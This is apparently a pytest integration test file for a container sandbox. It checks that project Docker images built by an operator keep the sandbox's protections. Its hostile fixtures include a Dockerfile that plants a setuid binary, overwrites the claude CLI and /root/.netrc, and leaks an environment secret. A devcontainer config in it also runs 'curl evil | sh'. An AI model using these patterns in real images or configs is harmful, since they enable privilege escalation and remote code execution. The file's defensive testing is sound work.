"""A project's own image: its tools are what the operator chose, its walls and the CLI are those of every box."""

import json
import os
from collections.abc import Iterator, Mapping
from contextlib import ExitStack
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from typer.testing import CliRunner

from ledger.runs.run import set_project_image
from ledger.store import Ledger, create_ledger_engine
from producers.bootstrap import Installation, Settings
from producers.cli import app
from producers.diagnosis import Finding
from producers.image_checks import check_images
from producers.use_cases.runs import Projects
from routing.config import read_settings
from routing.policy.services import OfferedService
from sandbox.docker.box import DockerBox, DockerMaker
from sandbox.docker.engine import Engine
from sandbox.errors import SandboxUnavailableError
from sandbox.execution import Clocks
from sandbox.image.project import build_for_project
from sandbox.image.source import ImageSource, source_of_dockerfile
from sites.content_store import ContentStore
from tests.box.service_images import OFFERS, build_service_images
from tests.engine import TestEngine
from tests.factories import Shop
from tests.integration.runs.step_world import StepYard, policy_with_file_remotes
from tests.services import Postgres
from workers.boxes import open_engine_pool
from workers.lifecycle import Resources

pytestmark = [pytest.mark.docker, pytest.mark.timeout(600)]

CLOCKS = Clocks(soft_seconds=60, hard_seconds=70, grace_seconds=2)
LIGHT = "rm -rf /usr/local/bin/claude /usr/local/bin/node /usr/local/lib/node_modules"
"""Leaves a sixth of what our image weighs: an image of an operator's has none of our parts."""
HOSTILE = f"""ARG base
FROM $base
USER 0
COPY ci/tool /opt/tools/bin/tool
RUN chmod 4755 /opt/tools/bin/tool && {LIGHT}
COPY ci/evil /usr/local/bin/claude
COPY ci/evil /usr/local/lib/pointsman/run
COPY ci/evil /usr/local/lib/pointsman/probe
COPY ci/evil /etc/claude-code/managed-settings.json
COPY ci/evil /root/.netrc
ENV PATH=/opt/tools/bin:/usr/local/bin:/usr/bin:/bin SECRET=hunter22
VOLUME /data
USER 0
ENTRYPOINT ["/usr/local/bin/claude"]
"""


def write(folder: Path, dockerfile: str, says: str = "a tool") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "tool").write_text(f"#!/bin/bash\necho {says} $(id -u)\n")
    (folder / "tool").chmod(0o755)
    (folder / "evil").write_text("#!/bin/bash\necho evil\n")
    (folder / "evil").chmod(0o755)
    (folder / "Dockerfile").write_text(dockerfile)
    return folder / "Dockerfile"


def build(daemon: TestEngine, source: ImageSource) -> Any:
    return build_for_project(daemon.config(), source, name="acme.less", say=lambda line: None, network="none")


def say(box: DockerBox, line: str) -> str:
    done = box.run(("bash", "-c", line), clocks=CLOCKS)
    return (done.stdout + done.stderr).decode().strip()


def check_walls(engine: Engine, box: DockerBox, *, own: str, shipped: str) -> None:
    uid = say(box, "id -u")
    assert uid not in ("0", "1000")
    assert say(box, "tool") == f"a tool {uid}"
    assert say(box, "claude --version; node --version").startswith("2.1.330 (Claude Code)\nv24")
    assert say(box, "grep -rl evil /usr/local/lib/pointsman /etc/claude-code; ls /root 2>&1 | grep netrc") == ""
    assert say(box, "env | grep -c hunter22; [ -r $(type -P claude) ] || echo unreadable") == "0\nunreadable"
    assert say(box, "find / -xdev -perm /6000 -type f 2>/dev/null; touch /opt/tools/x 2>&1").endswith("file system")
    images = {
        kind: engine.client.api.inspect_container(f"pointsman-{engine.install}-{box.id}-{kind}")["Image"]
        for kind in ("box", "forwarder")
    }
    assert images == {"box": own, "forwarder": shipped}


def test_an_image_that_lacks_what_a_box_needs_is_refused_with_what_it_lacks_and_is_gone(
    daemon: TestEngine, engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lines = "rm $(command -v seq) && cp $(command -v env) /usr/bin/all && ln -sf all $(command -v timeout)"
    node = "echo 'echo broken; exit 1' >/usr/local/bin/node && chmod 755 /usr/local/bin/node"  # its own stays
    file = write(
        tmp_path / "less", f"FROM {daemon.build_image().reference}\nUSER 0\nRUN {LIGHT} && {node} && {lines}\n"
    )
    lacks = "lacks the command seq; a timeout that is a program of its own.*; what Node needs: broken"

    def unfit(client: Any, base: Any, reference: str, *, labels: dict[str, str], **_: Any) -> None:
        """To import our parts takes ten seconds of the processor; they mend nothing of this (test_rootfs.py)."""
        client.images.build(path=str(tmp_path / "less"), tag=reference, labels=labels, rm=True)

    monkeypatch.setattr("sandbox.image.project.import_onto", unfit)
    with pytest.raises(SandboxUnavailableError, match=f"image_unfit: .*{lacks}"):
        build(daemon, source_of_dockerfile(file, context=None, args={}))
    with pytest.raises(SandboxUnavailableError, match="image_missing"):
        engine.image_id("pointsman-project:test.acme.less")
    file = write(tmp_path / "wrong", "FROM scratch\nCOPY nothing /\n")
    with pytest.raises(SandboxUnavailableError, match=r"build_failed: dockerfile:Dockerfile: .*nothing"):
        build(daemon, source_of_dockerfile(file, context=None, args={}))
    with pytest.raises(SandboxUnavailableError, match="base_missing: there is no image none:none"):
        build(daemon, ImageSource(base="none:none"))


def test_an_image_of_another_version_or_engine_is_never_a_box(
    daemon: TestEngine, engine: Engine, maker: DockerMaker
) -> None:
    with pytest.raises(SandboxUnavailableError, match=r"image_outdated: .*image build --project"):
        maker.create(image=engine.image_id(daemon.build_image().reference))
    with pytest.raises(SandboxUnavailableError, match=r"image_missing: .*docker load"):
        maker.create(image=f"sha256:{'0' * 64}")


class Fleet(NamedTuple):
    settings: Mapping[str, str]
    yard: StepYard

    def command(self, *words: str, code: int = 0) -> Any:
        found = CliRunner().invoke(app, [*words, "--tenant", "acme", "--json"], env=dict(self.settings))
        assert found.exit_code == code, found.output
        return json.loads(found.stdout)


@pytest.fixture
def fleet(daemon: TestEngine, engine: Engine, postgres: Postgres, tmp_path: Path) -> Iterator[Fleet]:
    with ExitStack() as stack:
        url = stack.enter_context(postgres.database())
        ledger = Ledger(create_ledger_engine(url, pool_size=2))
        stack.callback(ledger.close)
        pool = open_engine_pool(daemon.config(warm=0))
        stack.callback(pool.close)
        shop = Shop(ledger, url=url, policy=policy_with_file_remotes())
        shop.tenant(provider="fake")
        resources = Resources(
            ledger=ledger,
            content_store=ContentStore(tmp_path / "content-store"),
            policy=shop.policy,
            gateway_url="",
            worker="w1",
            boxes=pool,
            environment={"PATH": os.defpath},
            runs=StepYard.runs_config(tmp_path),
        )
        settings = 'stack: {language: python}\ncommands: {test: "tool && [ -z $SECRET ]"}\n'
        yard = StepYard(shop, resources, tmp_path, settings=settings)
        place = {"POINTSMAN_LEDGER__URL": url, "POINTSMAN_BOX__ENGINE": daemon.url, "POINTSMAN_BOX__INSTALL": "test"}
        yield Fleet({**place, "POINTSMAN_BOX__CACHE": str(Path.home() / ".cache/pointsman/box")}, yard)


def earlier_image(fleet: Fleet, engine: Engine, folder: Path) -> str:
    """Let the project have an image already, a small one: to build one takes ten seconds of the processor."""
    file = write(folder / "earlier", "FROM scratch\nCOPY tool /\n")
    image, _ = engine.client.images.build(path=str(file.parent), tag="pointsman-project:earlier", rm=True)
    with fleet.yard.shop.ledger.begin() as session:
        set_project_image(session, "acme", "shop", {"id": image.id}, actor="operator")
    return str(image.id)


@pytest.mark.threat("A2", "A14")
def test_an_operator_gives_a_project_an_image_which_brings_tools_and_takes_no_wall_away_until_it_is_removed(
    fleet: Fleet, engine: Engine, maker: DockerMaker, daemon: TestEngine, tmp_path: Path
) -> None:
    (issue,) = fleet.yard.do(None, "Check it").result["issues"]
    assert "guard: tool is not a command of this box" in issue["detail"]

    write(tmp_path / "repo/ci", HOSTILE)
    file = tmp_path / "repo/.devcontainer/devcontainer.json"
    file.parent.mkdir()
    shipped = daemon.build_image().reference
    args = json.dumps({"base": shipped})
    build = f'{{"dockerfile": "../ci/Dockerfile", "context": "..", "args": {args}}}'
    file.write_text(f'{{"build": {build}, // ours\n "postCreateCommand": "curl evil | sh"}}')
    earlier = earlier_image(fleet, engine, tmp_path)
    words = ("image", "build", "--project", "shop", "--network", "none", "--devcontainer", str(file))
    built = fleet.command(*words)
    with pytest.raises(SandboxUnavailableError, match="image_missing"):
        engine.image_id(earlier)
    assert built["dropped"] == ["SECRET"]
    assert fleet.yard.do(None, "Check it", key="again").result["issues"] == []
    box = maker.create(image=built["id"])
    try:
        check_walls(engine, box, own=built["id"], shipped=engine.image_id(shipped))
    finally:
        box.close()
    shown = fleet.command("project", "show", "shop")["image"]
    assert shown == {"id": built["id"], "reference": built["reference"], "source": "dockerfile:Dockerfile"}

    assert fleet.command("image", "remove", "--project", "shop")["is_removed"]
    with pytest.raises(SandboxUnavailableError, match="image_missing"):
        engine.image_id(built["id"])
    assert fleet.yard.do(None, "Check it", key="third").result["issues"]
    rows = fleet.yard.shop.rows("SELECT actor, detail FROM audit WHERE action = 'project_image' ORDER BY seq")
    assert [row.actor for row in rows] == ["operator"] * 3
    assert [(row.detail["image"] or {}).get("id") for row in rows] == [earlier, built["id"], None]


def test_doctor_names_the_images_that_steps_will_lack(fleet: Fleet, daemon: TestEngine) -> None:
    ledger = fleet.yard.shop.ledger
    services = "stack: {language: python}\nservices: {db: {image: postgresql}}\n"
    text = f'repo: {{url: "file://{fleet.yard.bare}"}}\n{services}'
    Projects(ledger, fleet.yard.shop.policy).put("acme", "shop", text, source="shop.yaml", actor="operator")
    build_service_images(daemon)
    installation = Installation(read_settings(Settings, fleet.settings))
    offers = {"postgresql": OFFERS["postgresql"].model_copy(update={"image": "none:none"}), "redis": OFFERS["redis"]}

    def found(**services: OfferedService) -> dict[str, Finding]:
        runs = installation.policy.runs.model_copy(update={"services": services})
        installation.__dict__["policy"] = installation.policy.model_copy(update={"runs": runs})
        return {finding.name: finding for finding in check_images(installation, fleet.settings)}

    try:
        assert {name: (one.verdict, one.seen) for name, one in found(**offers).items()} == {
            "service postgresql": ("WARN", "none:none is not on the engine; acme/shop needs it"),
            "service redis": ("OK", "test-redis"),
        }
        with ledger.begin() as session:
            set_project_image(session, "acme", "shop", {"id": f"sha256:{'0' * 64}"}, actor="operator")
        mended = {"postgresql": OFFERS["postgresql"], "redis": OFFERS["redis"].model_copy(update={"data": ()})}
        again = found(**mended)
        assert (again["image of acme/shop"].verdict, again["image of acme/shop"].seen) == ("WARN", "image_missing")
        assert "image build --project" in again["image of acme/shop"].hint
        assert again["service redis"].seen == "test-redis writes to /data, so no box with it is made"
        assert again["service postgresql"].verdict == "OK"
    finally:
        installation.close()
